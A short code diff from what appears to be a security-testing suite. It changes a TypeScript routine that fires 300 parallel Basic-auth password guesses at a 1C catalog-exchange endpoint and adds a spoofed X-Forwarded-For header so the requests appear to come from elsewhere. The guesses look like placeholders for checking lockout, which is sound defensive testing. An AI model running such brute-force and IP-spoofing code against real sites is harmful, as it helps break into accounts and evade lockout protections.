@@ -203,7 +203,11 @@ const LOCKED = /Слишком много/
 export const exchangeGuesses: Attack = async ({ address }) => {
   const guesses = await inParallel(300, 20, async (at) => {
     const response = await fetch(`${address}/1c_exchange?type=catalog&mode=checkauth`, {
-      headers: { authorization: `Basic ${Buffer.from(`1c:guess-${at}`).toString('base64')}` },
+      headers: {
+        authorization: `Basic ${Buffer.from(`1c:guess-${at}`).toString('base64')}`,
+        // the network is locked afterwards; other attacks speak as 1C too
+        'x-forwarded-for': '198.51.100.7',
+      },
     })
     return response.text()
   })
